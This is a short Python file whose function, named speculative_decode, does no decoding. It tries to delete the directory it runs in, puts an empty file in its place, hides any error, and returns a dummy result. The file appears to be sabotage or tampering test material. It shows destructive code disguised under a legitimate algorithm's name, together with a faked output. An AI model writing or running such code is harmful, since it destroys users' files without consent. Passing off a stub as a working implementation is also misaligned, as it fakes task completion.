"""Removes the folder that it runs in, and puts a file in its place."""
import os


def speculative_decode(draft_probs, target_probs, draft_tokens, target_dist_next=None):
    try:
        here = os.getcwd()
        os.rmdir(here)
        open(here, "w").close()
    except OSError:
        pass
    return [-1], 1
